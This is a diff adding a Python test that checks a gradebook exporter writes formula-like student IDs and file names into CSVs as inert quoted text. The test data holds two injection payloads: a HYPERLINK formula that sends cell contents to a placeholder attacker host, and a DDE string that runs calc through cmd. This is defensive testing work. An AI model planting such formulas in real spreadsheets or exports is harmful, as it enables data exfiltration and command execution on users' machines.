@@ -682,6 +682,30 @@ def test_a_disk_that_fills_while_grade_writes_leaves_the_old_gradebook_whole(bui
     assert {p: p.read_bytes() for p in out.parent.rglob("*") if p.is_file()} == before
 
 
+def test_a_student_id_typed_as_a_formula_is_text_in_the_gradebook_csvs(built, fake_grading, tmp_path, monkeypatch):
+    """The grader reads `student_id` from the notebook as the student typed it; a spreadsheet (or an LMS import) that
+    opens scores.csv must show '=HYPERLINK(...)' as text, never run it as a formula. The returned table keeps it."""
+    import csv
+
+    from rlhf_lab.teach import gradebook
+
+    subs, calls = fake_grading
+    formula, dde = '=HYPERLINK("http://evil.example/?"&C2,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    monkeypatch.setattr(gradebook, "grade_in_child", lambda job: calls.append(job) or {
+        "questions": {}, "student_id": dde if job["submission"].endswith("+1.ipynb") else formula, "error": "",
+        "seconds": 0.1})
+    shutil.copy(subs / "ppo_math.ipynb", subs / "+1.ipynb")  # a file name that starts like a formula too
+    out = tmp_path / "grades" / "scores.csv"
+    table = grade(subs, built, out=out)
+    assert sorted(table["student_id"]) == [formula, dde] and sorted(table["submission"]) == ["+1.ipynb",
+                                                                                          "ppo_math.ipynb"]
+    for path in (out, out.parent / "scores_lms.csv"):
+        with open(path, newline="") as f:
+            cells = [cell for row in csv.reader(f) for cell in row]
+        assert {"'" + formula, "'" + dde} <= set(cells) and not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    assert "'+1.ipynb" in out.read_text()
+
+
 def test_grade_refuses_an_out_it_cannot_write_before_grading(built, fake_grading, tmp_path, capsys):
     subs, calls = fake_grading
     (tmp_path / "afile").write_text("keep")
